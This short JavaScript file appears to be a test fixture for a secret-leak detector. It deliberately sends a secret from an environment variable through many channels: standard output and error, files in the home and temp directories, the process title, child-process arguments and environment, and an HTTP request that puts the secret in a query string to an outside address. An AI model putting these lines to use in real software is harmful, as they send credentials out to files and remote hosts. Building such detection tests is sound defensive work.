// Lets a secret out in every way that there is, so that a test can see whether it would be found.
import { execFileSync } from "node:child_process";
import { writeFileSync } from "node:fs";
import { join } from "node:path";

const { LEAK: secret, HOME, TMPDIR, ADDRESS } = process.env;
process.stdout.write(secret);
process.stderr.write(secret);
writeFileSync(join(HOME, "settings.json"), secret);
writeFileSync(join(TMPDIR, "draft"), secret);
process.title = secret;
execFileSync(process.execPath, ["-e", "", secret]);
execFileSync(process.execPath, ["-e", ""], { env: { ...process.env, OTHER: secret } });
execFileSync(process.execPath, ["-e", "", `https://example.org/?token=${encodeURIComponent(secret)}`]);
await fetch(`${ADDRESS}/?token=${encodeURIComponent(secret)}`);
